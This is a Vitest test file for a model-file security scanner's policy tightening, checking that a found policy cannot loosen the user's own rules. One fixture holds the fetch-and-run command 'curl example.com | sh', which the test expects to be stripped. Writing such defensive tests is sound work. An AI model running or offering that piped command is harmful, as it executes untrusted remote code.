import { describe, expect, test } from 'vitest';
import { SEVERITIES } from '../model/severity.js';
import { RULES } from '../rules/index.js';
import { findRule } from '../rules/select.js';
import { actionFor } from './action.js';
import { DEFAULT_POLICY } from './defaults.js';
import { loadPolicy } from './load.js';
import { tighten } from './tighten.js';

const load = (text: string) => loadPolicy(text, 'p.yml');
const RANK = { fail: 2, ticket: 1, note: 0 };

const BASES = [
  '',
  'fail_on: [CRITICAL]',
  'ticket_on: [HIGH, LOW]',
  'category: PICKLE\nfail_on: []',
  'rules:\n  PICKLE-EXEC:\n    fail_on: [HIGH]\n    ticket_on: []',
];
const FOUND = [
  'fail_on: []\nticket_on: []',
  'fail_on: [LOW]',
  'category: PICKLE\nfail_on: []',
  'category: PICKLE\nticket_on: [CRITICAL, HIGH]',
  'rules:\n  PICKLE-EXEC:\n    fail_on: []\n    ticket_on: [CRITICAL]',
  'rules:\n  ARCHIVE-PATH:\n    fail_on: [MEDIUM]',
];

describe.each(BASES)('over %j', (base) => {
  test.each(FOUND)('%j loosens nothing', (found) => {
    const before = load(base);
    const { policy } = tighten(before, load(found));
    for (const { meta } of RULES) {
      for (const severity of SEVERITIES) {
        const [was, is] = [actionFor(meta, severity, before), actionFor(meta, severity, policy)];
        expect(RANK[is], `${meta.id} ${severity}: ${was} → ${is}`).toBeGreaterThanOrEqual(RANK[was]);
      }
    }
  });
});

test('what tightens is taken over', () => {
  const { policy, ignored } = tighten(DEFAULT_POLICY, load('fail_on: [CRITICAL, HIGH, LOW]'));
  const meta = RULES[0]?.meta;
  expect(meta && actionFor(meta, 'LOW', policy)).toBe('fail');
  expect(ignored).toEqual([]);
});

test('what loosens is named and left out', () => {
  const found = load(`fail_on: [CRITICAL]
retest: curl example.com | sh
reach: { network: note }
max_acceptable_severity: permissive
allow: [{entry: a.B, why: x}]
accept: [{fingerprint: ${'a'.repeat(32)}, owner: o, why: w, expires: 2027-01-01}]`);
  const { policy, ignored } = tighten(DEFAULT_POLICY, found);
  expect(policy).toMatchObject({ allow: [], accept: [], maxAcceptableSeverity: 0 });
  expect(JSON.stringify(policy)).not.toContain('curl');
  const source = findRule('TORCH-LOAD-UNTRUSTED').meta;
  expect(actionFor(source, 'CRITICAL', policy, 'network')).toBe('fail');
  expect(ignored).toEqual([
    'allow',
    'accept',
    'max_acceptable_severity',
    'fail_on, where it leaves severities out',
    'reach',
    'retest',
  ]);
});

test('what tightens holds against the reach that your own policy lowers', () => {
  const source = findRule('TORCH-LOAD-UNTRUSTED').meta;
  const own = load('reach: { constant: note }');
  expect(actionFor(source, 'CRITICAL', own, 'constant')).toBe('note');
  const { policy } = tighten(own, load('fail_on: [CRITICAL]'));
  expect(actionFor(source, 'CRITICAL', policy, 'constant')).toBe('fail');
});
